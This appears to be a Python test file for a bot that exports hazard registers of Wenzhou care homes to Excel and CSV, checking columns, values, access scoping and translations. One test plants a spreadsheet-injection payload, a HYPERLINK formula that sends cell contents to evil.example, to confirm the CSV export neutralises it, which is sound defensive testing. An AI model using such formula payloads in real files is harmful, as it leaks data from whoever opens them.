"""Every export's columns and values, read back from the file: the XLSX sheets with openpyxl, the CSV with csv."""

from __future__ import annotations

import csv
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from bot.domain.stats import PeriodKind, StatsPeriod
from bot.i18n import Translator
from bot.services.exports import ExportFormat, ExportService
from bot.services.stats import StatsService
from tests.insight.world import CITY_ADMIN, HEAD_A, LUCHENG_STAFF, InsightWorld
from tests.small_city import without_english_name

TZ = ZoneInfo("Asia/Shanghai")
MARCH = StatsPeriod(PeriodKind.MONTH, date(2026, 3, 1), date(2026, 3, 31))
PROBLEM_HEADERS = [
    "隐患编号", "县（市、区）", "乡镇（街道）", "机构", "领域", "严重程度", "发现层级（四查）", "问题描述", "发现时间",
    "上报人", "整改责任人", "整改期限", "状态", "整改措施", "销号时间", "是否按期", "逾期天数", "回访结果",
]


async def export(world: InsightWorld, user_id: int, fmt: ExportFormat, path: Path, language: str = "zh_CN") -> int:
    stats = StatsService(world.storage, world.clock, TZ)
    scope = stats.scope(await world.user(user_id))
    seen: list[tuple[int, int]] = []

    async def progress(done: int, total: int) -> None:
        seen.append((done, total))

    result = await ExportService(world.storage, TZ).export(
        scope, MARCH, fmt, path, Translator(language, strict=True), months=["2026-03"], progress=progress
    )
    assert seen[-1] == (result.hazards, result.hazards)
    return result.hazards


async def test_the_problem_list_and_the_registers_in_excel(world: InsightWorld, tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    assert await export(world, LUCHENG_STAFF, ExportFormat.XLSX, path) == 4
    book = load_workbook(path)
    assert book.sheetnames == ["问题清单", "演练台账", "月度自查台账", "预警签收"]
    problems = book["问题清单"]
    assert problems.freeze_panes == "A2"
    assert problems.column_dimensions["H"].width == 40 and problems["A1"].font.bold
    rows = list(problems.iter_rows(values_only=True))
    assert list(rows[0]) == PROBLEM_HEADERS
    h1, h2, h3, h4 = world.hazards["H1"], world.hazards["H2"], world.hazards["H3"], world.hazards["H4"]
    assert [row[0] for row in rows[1:]] == [h1.code, h2.code, h3.code, h4.code]
    assert list(rows[1]) == [
        h1.code, "鹿城区", "五马街道", "鹿城区社会福利院", "用火", "一般", "自查", "fire 隐患",
        datetime(2026, 3, 2, 10, 0), "user 30", "user 40", datetime(2026, 3, 9, 10, 0), "已销号", "清理杂物",
        datetime(2026, 3, 6, 10, 0), "是", None, None,  # closed; no check-back asked (test_check_back_figures.py)
    ]
    assert rows[2][15] == "否" and rows[3][4] == "权益保障" and rows[3][12] == "整改中" and rows[3][15] is None
    # Filterable for what is overdue when the list is made: H3's deadline was 15 days before it; H4 is past its
    # deadline too, but its fix awaits verification, which is staff's wait, not the home's.
    assert rows[3][16] == 15 and rows[4][16] is None
    assert rows[4][2] == "南汇街道" and rows[4][12] == "待验收" and rows[4][10] == "user 47"
    found_at = problems["I2"]
    assert isinstance(found_at.value, datetime) and found_at.number_format == "yyyy-mm-dd hh:mm"

    drills = list(book["演练台账"].iter_rows(values_only=True))
    assert drills[0][:7] == ("机构编码", "机构", "县（市、区）", "乡镇（街道）", "机构类型", "演练类型", "演练日期")
    assert [(r[0], r[5], r[6], r[7]) for r in drills[1:]] == [
        ("WZ-330302-ELDER-01", "消防疏散演练", datetime(2026, 3, 1), 20)
    ]
    inspections = list(book["月度自查台账"].iter_rows(values_only=True))
    assert [(r[0], r[5], r[7] is not None) for r in inspections[1:]] == [
        ("WZ-330302-ELDER-01", "2026-03", True), ("WZ-330302-ELDER-02", "2026-03", False)
    ]
    assert inspections[0][11] == "自查状态"
    assert [r[11] for r in inspections[1:]] == ["已完成", "进行中（本月未结束）"]
    acks = list(book["预警签收"].iter_rows(values_only=True))
    assert acks[0][8] == "签收情况"
    assert [(r[3], r[5], r[8], r[9]) for r in acks[1:]] == [
        ("台风橙色预警", "鹿城区社会福利院", "已收到并落实", "user 40"),  # the first of its two heads to answer
        ("台风橙色预警", "鹿城区南汇街道居家养老服务中心", "未签收", None),
    ]
    assert acks[1][10] == datetime(2026, 3, 5, 10, 30)
    assert acks[0][11:13] == ("落实情况次数", "落实情况")
    assert acks[1][11] == 2 and acks[1][12] == (
        "2026-03-05 12:00 user 40: 门窗已加固，排水沟已清理\n2026-03-05 15:00 user 40: 已转移老人12人至安置点")
    assert acks[2][11] == 0 and acks[2][12] is None


async def test_the_csv_alternative_in_english(world: InsightWorld, tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    assert await export(world, CITY_ADMIN, ExportFormat.CSV, path, "en") == 7
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0][:4] == ["Code", "County", "Township", "Institution"]
    assert rows[0][-3:] == ["On time", "Days overdue", "Check-back"]
    by_code = {row[0]: row for row in rows[1:]}
    h7 = by_code[world.hazards["H7"].code]
    # Labels begin their cells in capitals, as the states do: "transport (vehicles)", "major" read as raw codes.
    assert h7[1:5] == ["Wenzhou (city-run)", "", "Wenzhou Funeral Home", "Transport (vehicles)"]  # as /stats says
    assert all(cell[:1].isupper() for cell in h7[4:7]), h7[4:7]
    assert h7[8] == "2026-03-01 10:00" and h7[12] == "Closed" and h7[15] == "Yes" and h7[16] == h7[17] == ""
    assert world.hazards["H8"].code not in by_code  # found in February


async def test_a_heads_export_holds_their_institution_only(world: InsightWorld, tmp_path: Path) -> None:
    path = tmp_path / "head.xlsx"
    assert await export(world, HEAD_A, ExportFormat.XLSX, path) == 2  # H1, H2: not H3 (权益保障), not B's H4
    book = load_workbook(path)
    codes = [row[0] for row in book["问题清单"].iter_rows(min_row=2, values_only=True)]
    assert codes == [world.hazards["H1"].code, world.hazards["H2"].code]
    acks = list(book["预警签收"].iter_rows(min_row=2, values_only=True))
    assert [row[5] for row in acks] == ["鹿城区社会福利院"]


async def test_a_rights_protection_hazard_never_names_the_head_as_responsible(
    world: InsightWorld, tmp_path: Path
) -> None:
    """H3 (权益保障) is one the head of 鹿城区社会福利院 may never see nor rectify (lifecycle.can_view): until staff
    name someone, county staff answer for it. The problem list named the head (user 40) as its person responsible,
    on a sheet that is filed and forwarded."""
    path = tmp_path / "export.xlsx"
    await export(world, LUCHENG_STAFF, ExportFormat.XLSX, path)
    rows = list(load_workbook(path)["问题清单"].iter_rows(values_only=True))
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code[world.hazards["H3"].code][10] is None
    assert by_code[world.hazards["H1"].code][10] == "user 40"  # the other hazards of that home still name its head


async def test_a_csv_cell_that_starts_like_a_formula_stays_text(world: InsightWorld, tmp_path: Path) -> None:
    """A description, measure or name starting with = + - @ is run as a formula when Excel opens a CSV (in the
    XLSX they are text cells already): the county clerk opening the quarter's problem list ran what a reporter
    typed. Such a cell is written with a leading apostrophe, which Excel reads as "this is text"."""
    h1, h2 = world.hazards["H1"], world.hazards["H2"]
    await world.storage.db.execute(
        "UPDATE hazards SET description = ?, measures = ? WHERE id = ?",
        ('=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+1", h1.id),
    )
    await world.storage.db.execute("UPDATE hazards SET description = ? WHERE id = ?", ("@SUM(1)", h2.id))
    await world.storage.db.execute("UPDATE users SET full_name = ? WHERE telegram_id = 30", ("-2+3",))
    path = tmp_path / "export.csv"
    await export(world, LUCHENG_STAFF, ExportFormat.CSV, path)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code[h1.code][7] == '\'=HYPERLINK("http://evil.example/?"&A1,"详情")'
    assert by_code[h1.code][13] == "'+1+1" and by_code[h1.code][9] == "'-2+3"
    assert by_code[h2.code][7] == "'@SUM(1)"
    assert by_code[h1.code][8] == "2026-03-02 10:00"  # dates are the export's own, never a formula

    xlsx = tmp_path / "export.xlsx"
    await export(world, LUCHENG_STAFF, ExportFormat.XLSX, xlsx)
    problems = load_workbook(xlsx)["问题清单"]
    row = next(r for r in problems.iter_rows(min_row=2) if r[0].value == h1.code)
    assert row[7].data_type == "s" and str(row[7].value).startswith("=HYPERLINK")  # a text cell, shown as typed


async def test_a_sheet_left_unfinished_past_its_month_is_shown_expired(world: InsightWorld, tmp_path: Path) -> None:
    """The register lists every sheet begun, the unfinished too: once its month is over, it says that month was
    missed rather than leave a blank finish time to be read as 'still going'."""
    world.clock.advance(timedelta(days=15))  # 4 April: March's unfinished sheet can no longer be finished
    path = tmp_path / "export.xlsx"
    await export(world, LUCHENG_STAFF, ExportFormat.XLSX, path, "en")
    inspections = list(load_workbook(path)["Self-inspections"].iter_rows(values_only=True))
    assert inspections[0][11] == "Sheet status"
    assert [(r[0], r[11]) for r in inspections[1:]] == [
        ("WZ-330302-ELDER-01", "Done"), ("WZ-330302-ELDER-02", "Expired unfinished (month missed)")
    ]


async def test_an_english_export_names_a_home_with_no_english_name_in_chinese(
    world: InsightWorld, tmp_path: Path
) -> None:
    funeral_home = await world.storage.institutions.get_by_code("WZ-330300-FUNERAL-01")
    assert funeral_home is not None
    await world.storage.institutions.upsert(without_english_name(funeral_home))
    path = tmp_path / "export.csv"
    await export(world, CITY_ADMIN, ExportFormat.CSV, path, "en")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    h7 = {row[0]: row for row in rows[1:]}[world.hazards["H7"].code]
    assert h7[3] == funeral_home.name_zh


async def test_the_registers_name_each_homes_county_and_township_under_their_own_headers(
    world: InsightWorld, tmp_path: Path
) -> None:
    """A county files the drill and self-inspection registers by place: 县（市、区） holds the county and 乡镇（街道）
    the township, in both registers as in the problem list, never one in the other's column."""
    path = tmp_path / "export.xlsx"
    await export(world, LUCHENG_STAFF, ExportFormat.XLSX, path)
    book = load_workbook(path)
    for sheet in ("演练台账", "月度自查台账"):
        rows = list(book[sheet].iter_rows(values_only=True))
        assert rows[0][1:4] == ("机构", "县（市、区）", "乡镇（街道）"), sheet
        home = next(row for row in rows[1:] if row[0] == "WZ-330302-ELDER-01")
        assert home[1:4] == ("鹿城区社会福利院", "鹿城区", "五马街道"), sheet
